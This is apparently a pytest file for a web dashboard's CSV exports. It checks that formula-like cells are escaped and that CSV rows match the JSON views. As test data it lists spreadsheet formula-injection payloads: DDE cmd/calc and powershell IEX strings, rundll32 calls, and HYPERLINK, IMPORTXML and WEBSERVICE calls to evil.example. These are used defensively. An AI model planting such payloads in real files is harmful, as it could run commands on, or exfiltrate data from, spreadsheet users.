"""Lists as files: the same rows as the page, and nothing that a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import itertools
import json
from pathlib import Path

import pytest

from oddlot.web.lists import guarded
from web.served import Served, serving
from web.stores import alert, fill, write_config

_STARTS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    " =",
    "\x00=",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    '"=',
    "|",
    "%",
)
_BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example","x")',
    "SUM(1,2)*cmd|' /C calc'!A0",
    'IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
    'WEBSERVICE("http://evil.example")',
    "2+5+cmd|'/C powershell IEX'!A0",
    'DDE("cmd";"/C calc";"x")',
    "rundll32|'URL.dll,OpenURL calc.exe'!A",
    "A1",
    "-1",
    "@SUM(1)",
    "\N{ZERO WIDTH SPACE}x",
)
FORMULAS = [start + body for start, body in itertools.product(_STARTS, _BODIES)]


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    place = write_config(tmp_path_factory.mktemp("formulas"))
    fill(
        place,
        [
            alert(i, sku=text, description=text, invoice=text, text=text, source=text)
            for i, text in enumerate(FORMULAS)
        ],
    )
    return place


def test_there_are_two_hundred_formulas_and_none_is_left_bare() -> None:
    assert len(set(FORMULAS)) >= 200
    for text in FORMULAS:
        assert guarded(text) == f"'{text}"


@pytest.mark.parametrize("value", [-5, 3.25, None, "", "MUG - RED", "a=b", "10%", "'quoted'"])
def test_numbers_and_plain_texts_stay_as_they_are(value: object) -> None:
    assert guarded(value) == value


def test_no_cell_of_a_csv_file_begins_a_formula(hostile: Path) -> None:
    with serving(hostile) as served:
        served.enter()
        files = [served.ask(f"/{name}.csv") for name in ("inbox", "sku", "detectors", "pipeline")]
    for answer in files:
        assert answer.status == 200
        assert answer.headers["content-type"].startswith("text/csv")
        assert answer.headers["content-disposition"].startswith("attachment")
        rows = list(csv.reader(io.StringIO(answer.text, newline="")))
        assert len({len(row) for row in rows}) == 1
        for cell in itertools.chain.from_iterable(rows):
            assert not cell.lstrip(' \t\r\n\0"').startswith(
                ("=", "+", "-", "@", "\uff1d", "\uff0b")
            )
    assert len(list(csv.reader(io.StringIO(files[0].text, newline="")))) == len(FORMULAS) + 1


def test_a_csv_file_has_the_rows_of_the_json_file(dashboard: Served) -> None:
    for name in ("inbox", "sku", "detectors", "rejects"):
        rows = json.loads(dashboard.ask(f"/{name}.json").body)
        read = list(csv.DictReader(io.StringIO(dashboard.ask(f"/{name}.csv").text, newline="")))
        assert len(read) == len(rows) > 0, name
        for row, cells in zip(rows, read, strict=True):
            assert list(row) == list(cells)
            for key in ("id", "sku", "type", "number"):
                if key in row:
                    assert str(row[key]) == cells[key]


def test_a_file_keeps_to_the_filter_of_its_page(dashboard: Served) -> None:
    everything = json.loads(dashboard.ask("/inbox.json").body)
    one = everything[-1]["detectors"].split()[0]
    some = json.loads(dashboard.ask(f"/inbox.json?detector={one}").body)
    assert some == [row for row in everything if one in row["detectors"].split()]
    assert 0 < len(some) < len(everything)


def test_an_incident_as_json_has_its_alerts(dashboard: Served) -> None:
    worst = json.loads(dashboard.ask("/inbox.json").body)[0]
    told = json.loads(dashboard.ask(f"/incident/{worst['id']}.json").body)
    assert len(told["alerts"]) == worst["alerts"]
    assert {row["incident"] for row in told["alerts"]} == {worst["id"]}
    assert dashboard.ask(f"/incident/{'f' * 32}.json").status == 404
